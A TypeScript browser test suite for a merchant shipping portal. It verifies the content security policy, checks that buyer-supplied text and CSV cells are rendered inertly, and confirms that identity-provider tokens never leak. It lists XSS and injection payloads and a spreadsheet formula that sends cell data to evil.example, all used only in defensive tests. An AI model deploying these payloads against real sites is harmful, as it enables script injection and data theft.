import { readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import type { BrowserContext, Page } from 'playwright';
import { describe, expect, test } from 'vitest';
import { textOf, withoutAnswers } from './support/browser.ts';
import { orderToShip } from './support/ship.ts';
import { signIn } from './support/sign-in.ts';
import { expectQuietEnd, useGatewayAndBrowser } from './support/stage.ts';

const stage = useGatewayAndBrowser();

const dist = resolve(import.meta.dirname, '../dist');

describe('the content security policy', () => {
  test('catches what is planted: inline script, inline style, foreign script, picture and call, eval, a raw sink', async () => {
    const { context, page } = await stage.merchant();
    await page.goto('/menu');
    await page.getByRole('main').waitFor();
    const caught = async (directive: string, plant: () => Promise<unknown> | unknown) => {
      const before = context.complaints.length;
      await page.evaluate(plant as () => unknown).catch(() => {});
      // Said by the policy itself, and by the part of it that is meant.
      const told = () => context.complaints.slice(before).filter((one) => one.startsWith('CSP '));
      await expect
        .poll(() => told().some((one) => one.startsWith(`CSP ${directive}`)), { message: directive })
        .toBe(true);
    };
    await caught('require-trusted-types-for', () => {
      document.createElement('script').textContent = 'globalThis.planted = true';
    });
    await caught('style-src', () => {
      const style = document.createElement('style');
      style.textContent = 'body { display: none }';
      document.head.append(style);
    });
    await caught('require-trusted-types-for', () => {
      document.createElement('script').src = 'https://evil.example/x.js';
    });
    await caught('img-src', () => {
      const image = document.createElement('img');
      image.src = 'https://evil.example/x.png';
      document.body.append(image);
    });
    await caught('connect-src', () => fetch('https://evil.example/').catch(() => {}));
    await caught('require-trusted-types-for', () => {
      // Later, for what is evaluated right now is the test's own and may do so.
      // oxlint-disable-next-line no-eval -- what is planted
      setTimeout(() => globalThis.eval('globalThis.planted = true'), 0);
    });
    await caught('require-trusted-types-for', () => {
      document.body.innerHTML = '<img src=x onerror="globalThis.planted = true">';
    });
    expect(await page.evaluate(() => 'planted' in globalThis)).toBe(false);

    // In the page itself, where no script but the browser's own reader puts it.
    const before = context.complaints.length;
    await page.route('**/menu', async (route) => {
      const answer = await route.fetch();
      const inline = '<script>globalThis.planted = true</script>';
      const foreign = '<script src="https://evil.example/x.js"></script>';
      const body = (await answer.text()).replace('</head>', `${inline}${foreign}</head>`);
      await route.fulfill({ response: answer, body });
    });
    await page.goto('/menu');
    const scripts = () => context.complaints.slice(before).filter((one) => one.startsWith('CSP script-src'));
    await expect.poll(() => scripts().some((one) => one.includes('inline'))).toBe(true);
    await expect.poll(() => scripts().some((one) => one.includes('https://evil.example/x.js'))).toBe(true);
    expect(await page.evaluate(() => 'planted' in globalThis)).toBe(false);
    const counted = (await (await page.request.get('/api/csp-report')).json()) as { count: number };
    expect(counted.count).toBeGreaterThan(0);
    await context.close();
  });
});

describe('what somebody else wrote', () => {
  const payloads = [
    '<img src=x onerror="globalThis.planted=1">',
    '"><svg onload="globalThis.planted=1">',
    '<script>globalThis.planted=1</script>',
    "javascript:globalThis.planted=1//'",
    '{{constructor.constructor("globalThis.planted=1")()}}',
    '=HYPERLINK("https://evil.example?x="&A1,"x")',
    '\u202E<iframe srcdoc="<script>parent.planted=1</script>">',
  ];

  /** Puts the payloads into every text that comes from a merchant's buyers. */
  function planted(value: unknown, at: { n: number }): unknown {
    if (Array.isArray(value)) return value.map((one) => planted(one, at));
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(
      Object.entries(value).map(([name, inner]) => {
        const isText =
          typeof inner === 'string' && /name|street|reference|neighborhood|city|sku|message/i.test(name);
        at.n += isText ? 1 : 0;
        return [name, isText ? payloads[at.n % payloads.length] : planted(inner, at)];
      }),
    );
  }

  async function poison(page: Page): Promise<{ n: number }> {
    const at = { n: 0 };
    await withoutAnswers(page);
    await page.route('**/api/kidal/route/**', async (route) => {
      // A page that goes on takes its requests with it.
      const answer = await route.fetch().catch(() => null);
      if (answer === null) return;
      const body: unknown = await answer.json().catch(() => null);
      await route.fulfill({ response: answer, json: planted(body, at) }).catch(() => {});
    });
    return at;
  }

  test('is read and never run: names, addresses, articles, messages of a failure', async () => {
    const { context, page } = await stage.merchant();
    const at = await poison(page);
    for (const path of ['/mis-pedidos?status=en-preparacion', '/mis-pedidos/crear-guia']) {
      await page.goto(path);
      // Not the quiet of the network: a page that asks again and again is never quiet.
      await page.getByRole('main').getByText('onerror="globalThis.planted=1"').first().waitFor();
    }
    await page.unrouteAll({ behavior: 'ignoreErrors' });
    await withoutAnswers(page);
    await page.route('**/api/kidal/route/**', (route) =>
      route.fulfill({
        status: 422,
        json: { statusCode: 422, message: payloads[0], data: { message: payloads[1] } },
      }),
    );
    await page.goto(`/mis-pedidos?status=todos&search=${encodeURIComponent(payloads[0] ?? '')}`);
    await page.getByRole('main').getByRole('button', { name: 'Reintentar' }).first().waitFor();
    expect(at.n).toBeGreaterThan(100);
    expect(await page.evaluate(() => 'planted' in globalThis)).toBe(false);
    await expectQuietEnd(context);
  });

  test('in the cells of a file is read and never run', async () => {
    const { context, page } = await stage.merchant();
    const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;
    const rows = payloads.map((payload) =>
      [payload, payload, '10', payload, '1', payload, payload].map(cell),
    );
    const heads = ['pedido', 'alto_cm', 'ancho_cm', 'largo_cm', 'peso_kg', 'contenido', 'paqueteria'];
    await page.goto('/mis-pedidos/crear-guia?vista=lotes&nuevo=true');
    await page.getByRole('main').waitFor();
    await page
      .locator('input[type="file"]')
      .first()
      .setInputFiles({
        name: `${payloads[0]?.replaceAll('/', '')}.csv`,
        mimeType: 'text/csv',
        buffer: Buffer.from([heads, ...rows].map((row) => row.join(',')).join('\n')),
      });
    await page.waitForURL(/pedidos=/u);
    await page.getByText('globalThis.planted=1').first().waitFor();
    expect(await page.evaluate(() => 'planted' in globalThis)).toBe(false);
    await expectQuietEnd(context);
  });
});

describe('tokens', () => {
  /** All that a script on the page could read, databases and caches with what is in them. */
  const readable = (page: Page) =>
    page.evaluate(async () => {
      const inDatabases: unknown[] = [];
      for (const { name } of await indexedDB.databases()) {
        if (name === undefined) continue;
        const database = await new Promise<IDBDatabase>((opened, failed) => {
          const request = indexedDB.open(name);
          request.addEventListener('success', () => opened(request.result));
          request.addEventListener('error', () => failed(request.error));
        });
        for (const store of database.objectStoreNames) {
          const all = database.transaction(store).objectStore(store).getAll();
          inDatabases.push(
            await new Promise((read) => all.addEventListener('success', () => read(all.result))),
          );
        }
        database.close();
      }
      const cached: string[] = [];
      for (const name of await caches.keys()) {
        for (const request of await (await caches.open(name)).keys()) cached.push(request.url);
      }
      const { cookie, documentElement } = document;
      const history = [location.href, document.referrer, self.name];
      return JSON.stringify([
        { ...localStorage },
        { ...sessionStorage },
        cookie,
        inDatabases,
        cached,
        history,
        documentElement.outerHTML,
      ]);
    });

  /** Of what the browser holds, what opens something; the id of an interaction stands in the provider's own address. */
  const secretsOf = (cookies: Awaited<ReturnType<BrowserContext['cookies']>>) =>
    cookies.filter(({ name }) => /session|csrf|state|pkce|nonce/.test(name));

  test('of the identity provider are in no answer, no address and no storage, from sign-in to sign-out', async () => {
    const context = await stage.openContext();
    const page = await context.newPage();
    const answers: string[] = [];
    const addresses: string[] = [];
    const reading: Promise<void>[] = [];
    context.on('request', (request) => {
      addresses.push(`${request.method()} ${request.url()} ${request.postData() ?? ''}`);
    });
    context.on('response', (response) => {
      // A cookie is set for the browser, not for the page: no script reads that header.
      const headers = Object.entries(response.headers()).filter(([name]) => name !== 'set-cookie');
      answers.push(JSON.stringify([response.url(), headers]));
      reading.push(
        response.text().then(
          (body) => void answers.push(`${response.url()} ${body}`),
          () => {},
        ),
      );
    });
    await signIn(page, stage.origin);
    const books = await stage.gateway.openBooks();
    // Of this sign-in, and of those of the tests before.
    const tokens = await books.providerTokens();
    await books.close();
    expect(tokens.length).toBeGreaterThan(0);
    const seen: string[] = [];
    const look = async (path: string) => {
      await page.goto(path);
      await page.getByRole('main').waitFor();
      seen.push(await readable(page));
    };
    for (const path of ['/', '/menu/perfil', '/mis-pedidos?status=en-preparacion']) await look(path);
    await look(`/mis-pedidos/crear-guia?pedido=${await orderToShip(page)}&paso=cotizar`);
    await page.getByRole('radio', { name: /llega/u }).first().waitFor();
    seen.push(await readable(page));
    const cookies = await context.cookies();
    // The portal itself writes how its browser looks, for the gateway to draw the next page.
    const own = cookies.filter(({ httpOnly }) => !httpOnly);
    expect(own.map(({ name }) => name)).toEqual(['__Host-look']);
    expect(Object.keys(JSON.parse(decodeURIComponent(own[0]?.value ?? '')))).toEqual(['window', 'kept']);
    const secrets = secretsOf(cookies.filter((cookie) => !own.includes(cookie)));
    expect(secrets.length).toBeGreaterThan(0);
    const session = (await (await context.request.get('/api/auth/session')).json()) as Record<
      string,
      unknown
    >;
    expect(Object.keys(session).toSorted()).toEqual(['expires', 'storeId', 'token', 'user']);
    expect(session['token']).toMatch(/^tk_/);
    await Promise.all(reading);

    await page.getByRole('button', { name: /^Perfil de/u }).click();
    const profile = page.getByRole('dialog', { name: /^Perfil de/u });
    await profile.getByRole('button', { name: 'Cerrar sesión' }).click();
    await page.getByRole('button', { name: /Entrar como Mariana/u }).waitFor();
    seen.push(await readable(page));
    await Promise.all(reading);
    // The provider's own pages carry its own short-lived ids in their addresses; the portal's never do.
    const ours = addresses.filter((address) => !/\/idp\/|\/api\/auth\/(?:callback|signin)/.test(address));
    const portal = answers.filter((answer) => !/\/idp\/|\/api\/auth\/(?:callback|signin)/.test(answer));
    for (const { name, value } of secrets) {
      expect({ name, isSeen: [...portal, ...ours, ...seen].join('\n').includes(value) }).toEqual({
        name,
        isSeen: false,
      });
    }
    // Of the tokens themselves nothing is anywhere, the provider's own pages and the way out included; of an ID token,
    // which nobody keeps, nothing that looks like one (D198).
    const all = [...answers, ...addresses, ...seen].join('\n');
    expect(all).not.toMatch(/eyJ[\w-]{10,}\.[\w-]{10,}\.[\w-]{10,}/u);
    expect(all).not.toMatch(/"(?:access_token|refresh_token|id_token|client_secret)"/u);
    for (const { access, refresh } of tokens) {
      expect([access, refresh].map((token) => token.length > 20)).toEqual([true, true]);
      expect([all.includes(access), all.includes(refresh)]).toEqual([false, false]);
    }
    // The ticket is held by the page alone: in no address and in no storage.
    const ticket = String(session['token']).split('.')[0] ?? '';
    expect([...ours, ...seen].join('\n').includes(ticket)).toBe(false);
    expect(answers.length).toBeGreaterThan(100);
    expect(addresses.length).toBeGreaterThan(50);
    // oxlint-disable-next-line no-console -- the counts are part of what a run shows
    console.info(
      `proved: ${answers.length} answers, ${addresses.length} requests and ${seen.length} pages searched, no token`,
    );
    await context.close();
  });
});

describe('what is not the merchant’s', () => {
  const foreignStore = '20817';

  test("another merchant's store in the address shows nothing of it (S6.2)", async () => {
    const { context, page } = await stage.merchant();
    const answers: number[] = [];
    page.on('response', (response) => {
      if (response.request().headers()['x-store-id'] === foreignStore) answers.push(response.status());
    });
    await page.goto(`/?store=${foreignStore}`);
    await page.waitForURL((url) => url.pathname.includes('/idp') || url.pathname.includes('signin'));
    expect(new Set(answers)).toEqual(new Set([403]));
    expect(await textOf(page)).not.toContain(foreignStore);
    await context.close();
  });

  test('signing out in one tab closes the others, and each of them may sign in again (S4.2, S4.5)', async () => {
    const context = await stage.openContext();
    const [first, second] = [await context.newPage(), await context.newPage()];
    await signIn(first, stage.origin);
    await second.goto('/mis-pedidos?status=todos');
    await second.getByRole('heading', { name: 'Mis pedidos' }).waitFor();
    await first.getByRole('button', { name: /^Perfil de/u }).click();
    await first.getByRole('button', { name: 'Cerrar sesión' }).click();
    for (const tab of [second, first]) {
      await tab.waitForURL((url) => url.pathname.startsWith('/idp/'));
      await tab.getByRole('button', { name: /Entrar como Mariana/u }).waitFor();
      expect(await tab.getByText('Mis pedidos').count()).toBe(0);
    }
    for (const tab of [first, second]) {
      await tab.getByRole('button', { name: /Entrar como Mariana/u }).click();
      await tab.getByRole('heading', { name: /Hola|Buen/u }).waitFor();
    }
    await context.close();
  });
});

test('the production build carries no demo, no mock, no story and no source map', () => {
  const files = readdirSync(dist, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
  expect(files.length).toBeGreaterThan(5);
  expect(
    files
      .map(({ name }) => name)
      .filter((name) => /\.map$|\.stories\.|storybook|mockServiceWorker/i.test(name)),
  ).toEqual([]);
  const words =
    /sourceMappingURL|setupWorker|mockServiceWorker|composeStories|casalumbre|taller-norte|faker/i;
  const found = files
    .filter(({ name }) => /\.(?:js|css|html|json)$/.test(name))
    .flatMap(({ parentPath, name }) => {
      const text = readFileSync(join(parentPath, name), 'utf8');
      return words.test(text) ? [`${name}: ${words.exec(text)?.[0]}`] : [];
    });
  expect(found).toEqual([]);
});
